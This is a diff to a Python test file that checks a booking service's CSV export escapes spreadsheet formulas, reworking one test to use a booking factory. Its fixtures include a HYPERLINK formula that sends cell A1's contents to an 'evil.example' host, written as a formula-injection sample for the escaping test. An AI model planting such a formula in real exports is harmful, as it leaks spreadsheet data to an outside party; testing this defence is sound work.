@@ -12,6 +12,7 @@ from queue_service.domain.audit import Actor
 from queue_service.domain.privacy import mask_kpj
 from queue_service.domain.spreadsheet import csv_text, safe_cell
 from queue_service.store import keys
+from tests.factories import booking_request
 
 FORMULA_EMAIL = "=1+cmd@example.com"  # a valid address that a spreadsheet would run
 FORMULA_USERNAME = '=HYPERLINK("https://evil.example/?x="&A1,"klik")'
@@ -33,8 +34,10 @@ def test_csv_text_reads_back_as_written_but_for_the_apostrophe():
     assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["x,y", '\'=say "hi"'], ["3", ""]]
 
 
-def test_a_formula_email_in_the_full_bookings_export_is_text(client, token, book):
-    book(email=FORMULA_EMAIL)
+def test_a_formula_email_in_the_full_bookings_export_is_text(client, token, reservations, clock):
+    # The API no longer keeps an e-mail (tests/web/test_privacy_notice.py); a booking stored
+    # with one before that still exports it as text.
+    reservations.reserve(booking_request(email=FORMULA_EMAIL), clock())
     url = "/api/v1/admin/branches/jakarta-salemba/bookings?date=2026-11-24&format=csv&full=1&reason=test"
     [row] = _rows(client.get(url, headers=token()).text)
     assert row["email"] == "'" + FORMULA_EMAIL
